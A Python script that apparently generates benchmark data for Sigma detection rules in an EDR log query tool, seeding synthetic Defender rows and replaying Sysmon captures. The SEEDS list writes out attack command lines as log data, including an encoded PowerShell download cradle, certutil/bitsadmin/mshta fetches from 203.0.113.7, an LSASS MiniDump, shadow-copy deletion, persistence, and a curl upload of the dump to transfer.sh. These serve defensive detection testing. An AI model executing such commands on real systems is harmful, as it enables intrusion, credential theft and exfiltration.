#!/usr/bin/env python3
"""Data for the Sigma benchmark (issue 15): a Defender-shaped case and a large Sysmon case.

    python benchmarks/sigma_data.py defender [--csv PATH] [--case DIR]
    python benchmarks/sigma_data.py sysmon   [--events N] [--out PATH] [--case DIR] [--seed S]

defender  gen_defender.py's 2.2M-row export (generated if missing) plus a small seeds CSV
          (`SEEDS` below: activity that real SigmaHQ rules fire on — encoded PowerShell from
          Word, certutil -urlcache, reg add of a Run key and the registry write it makes,
          comsvcs MiniDump, vssadmin delete shadows, schtasks /create, a Startup-folder
          script, DNS lookups, …), ingested together into one case.
sysmon    Sysmon JSON lines in the flat OTRF shape edrql's winevent profile reads, made by
          replaying the real OTRF captures in ../shared/data/sysmon (LSASS campaign, APT
          simulator, Empire launcher: Sysmon, Security, PowerShell channels) onto many hosts:
          each replay keeps the capture's order and (stretched) timing and mutates it
          consistently — host names, user names, Sysmon GUID machine part, PIDs (XOR with a
          per-replay key, so parent/child links survive), a replay-specific time window —
          and per event the free digit runs of command lines / paths / registry keys, so the
          distinct-value counts grow the way a fleet's do. `Message` (a rendering of the
          same fields) is dropped, as an EVTX flattener would have no such field.

Both write under /tmp/edrql-bench/ by default and are deterministic for a seed.
"""
from __future__ import annotations

import argparse
import base64
import csv
import datetime as dt
import json
import os
import random
import re
import subprocess
import sys
import time
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

from common import DEFAULT_CSV, DEFAULT_ROWS, WORKDIR, edrql_cmd, ensure_csv  # noqa: E402

SHARED = os.environ.get("EDRQL_SHARED", os.path.join(os.path.dirname(os.path.dirname(HERE)), "shared"))
if not os.path.isdir(SHARED):
    SHARED = "/work/shared"
SYSMON_ZIPS = ["data/sysmon/otrf_lsass_campaign_01_host.zip", "data/sysmon/otrf_aptsimulator_cobaltstrike.zip",
               "data/sysmon/otrf_empire_launcher_vbs.zip"]
DEFENDER_CASE = os.path.join(WORKDIR, "case-sigma-mde")
SEEDS_CSV = os.path.join(WORKDIR, "defender_sigma_seeds.csv")
SYSMON_OUT = os.path.join(WORKDIR, "sysmon_sigma.jsonl")
SYSMON_CASE = os.path.join(WORKDIR, "case-sigma-sysmon")
SYSMON_EVENTS = 1_200_000


def log(msg: str) -> None:
    print(f"sigma_data: {msg}", file=sys.stderr, flush=True)


def ingest(sources: list[str], case: str) -> float:
    t0 = time.perf_counter()
    subprocess.run(["nice", "-n", "5"] + edrql_cmd() + ["ingest", *sources, "--case", case, "-q"], check=True,
                   cwd="/tmp")
    return time.perf_counter() - t0


# ------------------------------------------------------------------ Defender seeds

def _enc(ps: str) -> str:
    return base64.b64encode(ps.encode("utf-16-le")).decode()


USERS_DIR = "C:\\Users\\{user}"
# (kind, fields) — kind "proc" rows are ProcessCreated with the parent as InitiatingProcess*;
# others are rows of the acting process (InitiatingProcess* = the actor).
SEEDS: list[tuple[str, dict]] = [
    ("proc", dict(FileName="powershell.exe", FolderPath="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  ProcessCommandLine="powershell.exe -NoP -NonI -W Hidden -Enc "
                  + _enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
                  parent=("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                          '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "invoice.docm"'))),
    ("proc", dict(FileName="certutil.exe", FolderPath="C:\\Windows\\System32\\certutil.exe",
                  ProcessCommandLine="certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe",
                  parent=("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start.bat"))),
    ("proc", dict(FileName="reg.exe", FolderPath="C:\\Windows\\System32\\reg.exe",
                  ProcessCommandLine='reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpd '
                  '/t REG_SZ /d "C:\\Users\\Public\\p.exe" /f',
                  parent=("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start.bat"))),
    ("reg", dict(ActionType="RegistryValueSet",
                 RegistryKey="HKEY_CURRENT_USER\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\"
                 "Windows\\CurrentVersion\\Run", RegistryValueName="OneDriveUpd",
                 RegistryValueData="C:\\Users\\Public\\p.exe",
                 actor=("reg.exe", "C:\\Windows\\System32\\reg.exe", "reg add HKCU\\...\\Run /v OneDriveUpd"))),
    ("proc", dict(FileName="rundll32.exe", FolderPath="C:\\Windows\\System32\\rundll32.exe",
                  ProcessCommandLine="rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 "
                  "C:\\Users\\Public\\l.dmp full",
                  parent=("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                          "powershell.exe -ep bypass"))),
    ("proc", dict(FileName="vssadmin.exe", FolderPath="C:\\Windows\\System32\\vssadmin.exe",
                  ProcessCommandLine="vssadmin.exe delete shadows /all /quiet",
                  parent=("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c r.bat"))),
    ("proc", dict(FileName="whoami.exe", FolderPath="C:\\Windows\\System32\\whoami.exe",
                  ProcessCommandLine="whoami /priv",
                  parent=("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                          "powershell.exe -ep bypass"))),
    ("proc", dict(FileName="schtasks.exe", FolderPath="C:\\Windows\\System32\\schtasks.exe",
                  ProcessCommandLine="schtasks /create /tn Updater /tr C:\\Users\\Public\\p.exe /sc onlogon /ru SYSTEM /f",
                  parent=("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start.bat"))),
    ("proc", dict(FileName="mshta.exe", FolderPath="C:\\Windows\\System32\\mshta.exe",
                  ProcessCommandLine="mshta.exe http://203.0.113.7/x.hta",
                  parent=("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"))),
    ("proc", dict(FileName="net.exe", FolderPath="C:\\Windows\\System32\\net.exe",
                  ProcessCommandLine="net user helpdesk P@ssw0rd1 /add",
                  parent=("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c a.bat"))),
    ("proc", dict(FileName="bitsadmin.exe", FolderPath="C:\\Windows\\System32\\bitsadmin.exe",
                  ProcessCommandLine="bitsadmin /transfer j /download /priority high http://203.0.113.7/q.exe "
                  "C:\\Users\\Public\\q.exe",
                  parent=("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c b.bat"))),
    ("file", dict(ActionType="FileCreated", FileName="upd.vbs",
                  FolderPath=USERS_DIR + "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.vbs",
                  actor=("wscript.exe", "C:\\Windows\\System32\\wscript.exe", "wscript.exe C:\\Users\\Public\\i.vbs"))),
    ("net", dict(ActionType="ConnectionSuccess", RemoteIP="203.0.113.7", RemotePort="4444", LocalPort="51234",
                 Protocol="Tcp", actor=("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                        "powershell.exe -NoP -NonI -W Hidden -Enc ..."))),
    ("dns", dict(ActionType="DnsConnectionInspected", RemoteUrl="raw.githubusercontent.com", RemoteIP="185.199.108.133",
                 RemotePort="53", Protocol="Udp",
                 actor=("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell.exe -ep bypass"))),
    ("dns", dict(ActionType="DnsConnectionInspected", RemoteUrl="transfer.sh", RemoteIP="144.76.136.153",
                 RemotePort="53", Protocol="Udp",
                 actor=("curl.exe", "C:\\Windows\\System32\\curl.exe", "curl.exe -T l.dmp https://transfer.sh/l.dmp"))),
]
SEED_HOSTS = 12


def _ticks(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}0Z"


def _hosts(csv_path: str, n: int, rng: random.Random) -> list[tuple[str, str]]:
    """(DeviceId, DeviceName) pairs of hosts present in the export (its first 50k rows)."""
    seen: dict[str, str] = {}
    with open(csv_path, encoding="utf-8", newline="") as fh:
        rd = csv.reader(fh)
        next(rd)
        for i, row in enumerate(rd):
            seen.setdefault(row[2], row[1])
            if i > 50_000:
                break
    names = sorted(seen)
    return [(seen[h], h) for h in rng.sample(names, min(n, len(names)))]


def write_seeds(csv_path: str, out: str, seed: int = 15) -> int:
    """The seeds CSV (same header as the export); returns its row count."""
    from gen_defender import HEADER
    rng = random.Random(seed)
    start = dt.datetime(2024, 11, 4, 1, 0, tzinfo=dt.timezone.utc)
    rows = []
    report = 900_000_000
    for dev_id, host in _hosts(csv_path, SEED_HOSTS, rng):
        user = rng.choice(["jsmith", "mgarcia", "kyuki", "olga.ivanova", "pdavis"])
        t = start + dt.timedelta(seconds=rng.randrange(0, 3 * 86400 - 7200))
        gp = ("explorer.exe", "C:\\Windows\\explorer.exe", rng.randrange(1000, 9000) * 4)
        for kind, f in SEEDS:
            t += dt.timedelta(seconds=rng.randrange(2, 90), microseconds=rng.randrange(10**6))
            report += 1
            r = dict.fromkeys(HEADER, "")
            r.update(Timestamp=_ticks(t), DeviceId=dev_id, DeviceName=host, ReportId=str(report),
                     AccountDomain="corp", AccountName=user, InitiatingProcessAccountName=user)
            if kind == "proc":
                pname, ppath, pcmd = f["parent"]
                r.update(ActionType="ProcessCreated", FileName=f["FileName"], FolderPath=f["FolderPath"],
                         ProcessId=str(rng.randrange(1000, 16000) * 4), ProcessCommandLine=f["ProcessCommandLine"],
                         ProcessCreationTime=_ticks(t), InitiatingProcessFileName=pname,
                         InitiatingProcessFolderPath=ppath, InitiatingProcessCommandLine=pcmd,
                         InitiatingProcessId=str(rng.randrange(1000, 16000) * 4),
                         InitiatingProcessCreationTime=_ticks(t - dt.timedelta(seconds=40)),
                         InitiatingProcessParentFileName=gp[0], InitiatingProcessParentId=str(gp[2]),
                         InitiatingProcessParentCreationTime=_ticks(t - dt.timedelta(hours=3)))
            else:
                aname, apath, acmd = f["actor"]
                r.update({k: v.replace("{user}", user) for k, v in f.items() if k != "actor"})
                r.update(InitiatingProcessFileName=aname, InitiatingProcessFolderPath=apath,
                         InitiatingProcessCommandLine=acmd, InitiatingProcessId=str(rng.randrange(1000, 16000) * 4),
                         InitiatingProcessCreationTime=_ticks(t - dt.timedelta(seconds=30)),
                         InitiatingProcessParentFileName="cmd.exe", InitiatingProcessParentId=str(gp[2] + 4),
                         InitiatingProcessParentCreationTime=_ticks(t - dt.timedelta(minutes=5)))
            rows.append(r)
    with open(out, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=HEADER, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
        w.writeheader()
        w.writerows(rows)
    return len(rows)


def defender(args) -> None:
    ensure_csv(args.csv, DEFAULT_ROWS)
    n = write_seeds(args.csv, SEEDS_CSV)
    log(f"wrote {n} seed rows to {SEEDS_CSV}")
    if args.case:
        log(f"ingesting {args.csv} + seeds into {args.case} …")
        log(f"ingested in {ingest([args.csv, SEEDS_CSV], args.case):.1f}s")


# ------------------------------------------------------------------ Sysmon replays

PID_FIELDS = ("ProcessId", "ParentProcessId", "SourceProcessId", "TargetProcessId", "ProcessID", "NewProcessId",
              "ClientProcessId", "CallerProcessId", "ExecutionProcessID")
GUID_RE = re.compile(r"\{([0-9a-fA-F]{8})-")
FREE_DIGITS = re.compile(r"(?<![A-Za-z0-9+/=._-])\d{5,}(?![A-Za-z0-9+/=])")
MUTATE_FIELDS = ("CommandLine", "ParentCommandLine", "TargetFilename", "TargetObject", "Details", "ImageLoaded",
                 "QueryName", "PipeName", "ScriptBlockText")
TIME_FIELDS = ("TimeCreated", "@timestamp")
DROP = ("Message", "EventReceivedTime", "RecordNumber")
HOST_NAMES = {"MKT01": "MKT", "WORKSTATION5": "WKS", "WORKSTATION6": "WKT", "MORDORDC": "DC"}
USER_NAMES = ["stevie.marie", "pedro.gustavo", "pgustavo", "APT-Simulator"]
FIRST = ["ana", "ben", "chen", "dara", "emil", "femi", "gita", "hugo", "ines", "jon", "kai", "lena", "mia", "nils",
         "omar", "pia", "quin", "rosa", "sami", "tomo", "uma", "vlad", "wen", "xavi", "yara", "zoe"]
LAST = ["abe", "berg", "cruz", "diaz", "eng", "fox", "gill", "haas", "ito", "jung", "koch", "lund", "moss", "nair"]


def _parse(ts: str) -> dt.datetime:
    return dt.datetime.fromisoformat(ts.replace("Z", "+00:00"))


def _read_captures() -> list[list[dict]]:
    caps = []
    for rel in SYSMON_ZIPS:
        path = os.path.join(SHARED, rel)
        with zipfile.ZipFile(path) as z:
            for member in z.namelist():
                if not member.endswith(".json"):
                    continue
                recs = []
                with z.open(member) as fh:
                    for line in fh:
                        d = json.loads(line)
                        for k in DROP:
                            d.pop(k, None)
                        recs.append(d)
                caps.append(recs)
    return caps


def _pid(v, key: int):
    if not isinstance(v, str) or not v:
        return v
    try:
        if v.startswith("0x"):
            return hex(int(v, 16) ^ key)
        return str(int(v) ^ key)
    except ValueError:
        return v


def sysmon(args) -> None:
    rng = random.Random(args.seed)
    t0 = time.perf_counter()
    caps = _read_captures()
    total = sum(map(len, caps))
    log(f"read {total:,} real records from {len(caps)} captures in {time.perf_counter() - t0:.1f}s")
    window0 = dt.datetime(2024, 11, 4, tzinfo=dt.timezone.utc)
    host_re = re.compile("|".join(map(re.escape, HOST_NAMES)))
    user_re = re.compile("|".join(map(re.escape, USER_NAMES)) + r"|STEVIE~1\.MAR|PEDRO~1\.GUS", re.IGNORECASE)
    written = 0
    replay = 0
    with open(args.out, "w", encoding="utf-8") as out:
        while written < args.events:
            replay += 1
            key = rng.randrange(1, 1 << 14) << 2            # XOR key: keeps PIDs multiples of 4
            machine = f"{rng.getrandbits(32):08x}"
            users = {u.lower(): f"{rng.choice(FIRST)}.{rng.choice(LAST)}{rng.randrange(10, 99)}" for u in USER_NAMES}
            users["stevie~1.mar"] = users["stevie.marie"][:6].upper() + "~1.MAR"
            users["pedro~1.gus"] = users["pedro.gustavo"][:6].upper() + "~1.GUS"
            hosts = {h: f"{p}{replay:03d}" for h, p in HOST_NAMES.items()}
            start = window0 + dt.timedelta(seconds=rng.randrange(0, 3 * 86400 - 4 * 3600))
            stretch = rng.uniform(4, 12)
            keep = rng.uniform(0.9, 1.0)
            recno: dict = {}
            for recs in caps:
                src0 = _parse(recs[0].get("TimeCreated") or recs[0]["@timestamp"])
                for d in recs:
                    if rng.random() > keep:
                        continue
                    e = dict(d)
                    t = _parse(e.get("TimeCreated") or e["@timestamp"])
                    nt = start + (t - src0) * stretch
                    iso = nt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{nt.microsecond // 1000:03d}Z"
                    for k in TIME_FIELDS:
                        if k in e:
                            e[k] = iso
                    if "UtcTime" in e:
                        e["UtcTime"] = iso[:10] + " " + iso[11:23]
                    # every record gets NXLog's (RecordNumber, EventTime): edrql deduplicates on
                    # (Hostname, Channel, RecordNumber, EventTime) when a file has those columns, and
                    # the OTRF captures that lack them would otherwise all share one (null) key
                    e["EventTime"] = iso[:10] + " " + iso[11:19]
                    rkey = (e.get("Hostname"), e.get("Channel"))
                    recno[rkey] = recno.get(rkey, 0) + 1
                    e["RecordNumber"] = recno[rkey]
                    for k in PID_FIELDS:
                        if k in e:
                            e[k] = _pid(e[k], key)
                    for k in MUTATE_FIELDS:
                        v = e.get(k)
                        if isinstance(v, str) and v and rng.random() < 0.5:
                            e[k] = FREE_DIGITS.sub(lambda m: str(rng.randrange(10 ** (len(m.group()) - 1),
                                                                               10 ** len(m.group()))), v)
                    line = json.dumps(e, ensure_ascii=False, separators=(",", ":"))
                    line = GUID_RE.sub(lambda m: "{" + (machine if m.group(1).lower() != "5770385f"
                                                        and m.group(1).lower() != "54849625" else m.group(1)) + "-",
                                       line)
                    line = host_re.sub(lambda m: hosts[m.group()], line)
                    line = user_re.sub(lambda m: users[m.group().lower()], line)
                    out.write(line + "\n")
                    written += 1
                    if written >= args.events:
                        break
                if written >= args.events:
                    break
    log(f"wrote {written:,} events ({replay} replays) to {args.out} ({os.path.getsize(args.out) / 1e6:,.0f} MB) "
        f"in {time.perf_counter() - t0:.1f}s")
    if args.case:
        log(f"ingesting into {args.case} …")
        log(f"ingested in {ingest([args.out], args.case):.1f}s")


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = ap.add_subparsers(dest="what", required=True)
    d = sub.add_parser("defender")
    d.add_argument("--csv", default=DEFAULT_CSV)
    d.add_argument("--case", default=DEFENDER_CASE, help="ingest into this case ('' to skip)")
    s = sub.add_parser("sysmon")
    s.add_argument("--events", type=int, default=SYSMON_EVENTS)
    s.add_argument("--out", default=SYSMON_OUT)
    s.add_argument("--case", default=SYSMON_CASE, help="ingest into this case ('' to skip)")
    s.add_argument("--seed", type=int, default=15)
    args = ap.parse_args(argv)
    os.makedirs(WORKDIR, exist_ok=True)
    (defender if args.what == "defender" else sysmon)(args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
